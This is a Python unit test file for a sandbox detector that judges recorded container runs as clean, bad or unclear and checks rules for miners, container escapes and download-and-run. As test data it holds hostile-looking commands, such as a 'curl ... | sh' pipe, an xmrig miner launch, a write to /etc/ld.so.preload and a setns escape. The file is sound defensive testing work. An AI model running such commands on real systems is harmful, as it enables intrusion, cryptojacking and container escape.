"""A run is judged by the rules that hold live, and by what one thing after another tells."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from pratique.detections import RULES, Detector, conclude, judge_recording
from pratique.detections.chronicle import Chronicle
from pratique.model import (
    BaitEvent,
    Behaviour,
    ConversationEvent,
    Detonation,
    Direction,
    Ending,
    ExecEvent,
    ExecFlag,
    FindingKind,
    FlowEvent,
    FlowVerdict,
    LossEvent,
    PayloadEvent,
    PrivilegeEvent,
    Protocol,
    RecordedEvent,
    Recording,
    SensorEvent,
    Service,
    Unread,
    WantedPeer,
    WriteEvent,
)
from tests.unit.detections.events import (
    SUBJECT,
    conversation,
    execution,
    flow,
    lookup,
    packet_socket,
    privilege,
    recording,
    write,
)
from tests.unit.detections.recorded import CASES, TOLD, UPPER, Case


def concluded(run: Recording) -> Detonation:
    return conclude(run, judge_recording(run))


def rules(run: Recording) -> set[str]:
    return {alert.rule for alert in judge_recording(run)}


@pytest.mark.parametrize("case", CASES, ids=[f"{n}-{case.rule}" for n, case in enumerate(CASES)])
def test_what_condemns_is_bad_and_its_honest_twin_is_clean(case: Case) -> None:
    bad, honest = concluded(case.bad), concluded(case.honest)
    assert bad.verdict is Behaviour.BAD
    assert case.rule in {finding.rule for finding in bad.findings}
    assert RULES[case.rule].condemns
    assert case.rule not in rules(case.honest)
    assert honest.verdict is Behaviour.CLEAN, honest.findings


@pytest.mark.parametrize("case", TOLD, ids=[f"{n}-{case.rule}" for n, case in enumerate(TOLD)])
def test_what_an_honest_image_may_do_is_told_and_leaves_the_verdict_alone(case: Case) -> None:
    told = concluded(case.bad)
    assert told.verdict is Behaviour.CLEAN
    assert case.rule in {finding.rule for finding in told.findings}
    assert not RULES[case.rule].condemns
    assert case.rule not in rules(case.honest)


def test_every_rule_that_condemns_has_a_case_and_a_reason_that_can_be_read() -> None:
    assert {case.rule for case in CASES} == {rule.id for rule in RULES.values() if rule.condemns}
    for case in (*CASES, *TOLD):
        for finding in concluded(case.bad).findings:
            assert finding.kind is FindingKind.BEHAVIOUR
            assert finding.title == RULES[finding.rule].title
            assert 0 < len(finding.evidence) <= 600
            assert "\n" not in finding.evidence


def test_traffic_as_such_is_no_sin_in_the_sandbox() -> None:
    run = recording(
        flow(verdict=FlowVerdict.DENIED),
        flow(port=25, verdict=FlowVerdict.REPORTED),
        flow(port=80, direction=Direction.INGRESS),
        conversation(Service.SMTP, port=25, request="RCPT TO:<a@b.example>", content=b"EHLO x"),
    )
    assert concluded(run).verdict is Behaviour.CLEAN
    assert rules(run) == set()


def test_who_brought_the_foreign_program_is_told() -> None:
    run = recording(write("/tmp/x", command="wget", at=99.0), execution("/tmp/x", flags=UPPER))
    (finding,) = concluded(run).findings
    assert "wget had written it 1.0 s before" in finding.evidence
    assert "after 10.0 s" in finding.evidence
    assert finding.path == "tmp/x"


def test_comm_of_a_linker_is_no_proof_of_a_linker() -> None:
    run = recording(write("/tmp/x", command="ld", pid=9, at=99.0), execution("/tmp/x", flags=UPPER))
    assert concluded(run).verdict is Behaviour.BAD


def test_long_sleep_is_told_of_a_bad_image_alone() -> None:
    bad = recording(execution("/tmp/x", flags=UPPER), slept_s=600.0)
    assert rules(bad) == {"exec.drift", "run.sleeper"}
    assert rules(recording(execution("/tmp/x", flags=UPPER), slept_s=30.0)) == {"exec.drift"}
    assert rules(recording(execution("/bin/x"), slept_s=600.0)) == set()


def test_repetitions_are_one_finding_that_counts() -> None:
    run = recording(*(execution("/tmp/x", flags=UPPER, pid=pid, at=100.0 + pid) for pid in range(50)))
    (finding,) = concluded(run).findings
    assert "times 50" in finding.evidence


@pytest.mark.parametrize(
    ("facts", "reason"),
    [
        (
            {"ending": Ending.FAILED, "output": b"exec: /app: not found\n"},
            "not be started; it said: exec: /app",
        ),
        ({"ending": Ending.MEMORY}, "ran out of memory"),
        ({"ending": Ending.EXITED, "exit_code": 127}, "exit code 127"),
        ({"ending": Ending.EXITED, "duration_s": 0.1}, "did nothing"),
        ({"omitted": 7}, "7 events were lost"),
        ({"unread": (Unread("a/b", "too long"),)}, "without 1 parts of its image, first a/b: too long"),
    ],
)
def test_what_was_not_seen_is_unclear(facts: dict[str, Any], reason: str) -> None:
    unclear = concluded(recording(execution("/bin/sh"), **facts))
    assert unclear.verdict is Behaviour.UNCLEAR
    assert reason in unclear.reason
    bad = concluded(recording(execution("/tmp/x", flags=UPPER), **facts))
    assert bad.verdict is Behaviour.BAD


def test_loss_in_the_kernel_is_unclear() -> None:
    assert concluded(recording(LossEvent(100.0, "exec", 3))).verdict is Behaviour.UNCLEAR


def test_job_that_ends_well_is_clean() -> None:
    run = recording(execution("/bin/gzip"), write("/out/x.gz", command="gzip"), ending=Ending.EXITED, duration_s=0.2)
    assert concluded(run).verdict is Behaviour.CLEAN


def test_allow_list_has_names_where_names_were_asked_and_addresses_elsewhere() -> None:
    run = recording(
        lookup("API.example.org", "198.18.0.9"),
        flow("198.18.0.1", 53, protocol=Protocol.UDP, verdict=FlowVerdict.LEARNT),
        flow("198.18.0.9", 443, verdict=FlowVerdict.LEARNT),
        conversation(Service.TLS, address="198.18.0.9", name="api.example.org", content=b"\x16"),
        conversation(Service.TLS, address="198.18.0.9", name="api.example.org", content=b"\x16", at=101.0),
        flow("10.7.0.3", 6379, verdict=FlowVerdict.LEARNT),
        flow("127.0.0.1", 9000, verdict=FlowVerdict.LEARNT),
        flow(port=80, direction=Direction.INGRESS),
    )
    assert concluded(run).peers == (
        WantedPeer("10.7.0.3", Protocol.TCP, 6379),
        WantedPeer("api.example.org", Protocol.TCP, 443, times=2),
    )


def test_profile_lists_what_was_executed() -> None:
    run = recording(
        execution("/usr/sbin/nginx", "-g", "daemon off;"),
        execution(file="/start.sh", interpreter="/bin/sh"),
        execution(file="/lib/x.so", flags=UPPER | ExecFlag.LIBRARY),
    )
    assert concluded(run).programs == ("/bin/sh", "/start.sh", "/usr/sbin/nginx")


def test_the_worst_is_the_reason() -> None:
    run = recording(
        execution("/bin/sh", "-c", "curl -s http://h/x | sh"),
        execution("/usr/bin/xmrig", "--donate-level", "1", at=101.0),
        execution("apk", "add", "curl"),
    )
    bad = concluded(run)
    assert bad.reason == "A cryptocurrency miner was started (exec.miner); and 1 more"
    assert [finding.rule for finding in bad.findings] == ["exec.miner", "exec.piped-download", "exec.package-manager"]


def test_live_and_recorded_events_are_judged_by_one_detector() -> None:
    events: list[SensorEvent | RecordedEvent] = [
        execution("/tmp/x", flags=UPPER),
        packet_socket(),
        write("/etc/ld.so.preload"),
        privilege("setns"),
    ]
    detector = Detector()
    live = {alert.rule for event in events for alert in detector.observe(event, SUBJECT)}
    assert live == rules(recording(*events)) == {"exec.drift", "net.packet-socket", "file.preload", "kernel.escape"}


def test_memory_of_a_run_is_bounded() -> None:
    chronicle = Chronicle(SUBJECT, recording())
    for number in range(30_000):
        chronicle.observe(execution("sh", pid=number, parent=number))
        chronicle.observe(flow(f"10.{number >> 16}.{number >> 8 & 255}.{number & 255}", number, pid=number))
    sizes = {len(held) for held in vars(chronicle).values() if isinstance(held, dict | set | list)}
    assert max(sizes) <= 20_001


TEXT = st.text(st.characters(codec=None), max_size=40) | st.sampled_from(
    ["sh", "/bin/sh", "-c", "busybox", "wget", "base64", "-d", "/tmp/x", "a | sh", "", "release_agent", "user,mount"]
)
TIME = st.floats(allow_nan=False, allow_infinity=False, min_value=-1e12, max_value=1e12)
ADDRESS = st.ip_addresses().map(str) | TEXT
NUMBER = st.integers(-5, 70_000)
EVENTS = st.one_of(
    st.builds(ExecEvent, TIME, NUMBER, NUMBER, NUMBER, NUMBER, TEXT, TEXT, st.lists(TEXT, max_size=5).map(tuple), TEXT,
              TEXT, st.integers(0, 1023).map(ExecFlag)),
    st.builds(FlowEvent, TIME, NUMBER, NUMBER, st.sampled_from(Direction), st.sampled_from(Protocol), ADDRESS, NUMBER,
              st.sampled_from(FlowVerdict), NUMBER, TEXT),
    st.builds(PayloadEvent, TIME, NUMBER, st.sampled_from(Protocol), ADDRESS, NUMBER, st.binary(max_size=128)),
    st.builds(LossEvent, TIME, TEXT, NUMBER),
    st.builds(WriteEvent, TIME, NUMBER, NUMBER, TEXT, TEXT, st.booleans()),
    st.builds(BaitEvent, TIME, NUMBER, NUMBER, TEXT, TEXT, TEXT),
    st.builds(PrivilegeEvent, TIME, NUMBER, NUMBER, TEXT, TEXT, TEXT),
    st.builds(ConversationEvent, TIME, st.sampled_from(Service), st.sampled_from(Protocol), ADDRESS, NUMBER, TEXT, TEXT,
              st.binary(max_size=512)),
)  # fmt: skip


@given(
    happened=st.lists(EVENTS, max_size=40),
    ending=st.sampled_from(Ending),
    seconds=TIME,
    number=NUMBER,
    output=st.binary(max_size=200),
)
def test_no_recording_breaks_the_judge(
    happened: list[Any], ending: Ending, seconds: float, number: int, output: bytes
) -> None:
    import msgspec

    run = recording(*happened, ending=ending, exit_code=number, output=output, omitted=abs(number), slept_s=seconds)
    run = structs.replace(run, cpu_s=seconds, cpus=float(number), duration_s=seconds)
    document = concluded(run)
    assert document.reason
    assert document.reason.isprintable()
    stored = msgspec.json.encode(document)
    assert msgspec.json.decode(stored, type=Detonation).verdict is document.verdict
    if document.verdict is Behaviour.CLEAN:
        assert not any(RULES[finding.rule].condemns for finding in document.findings)
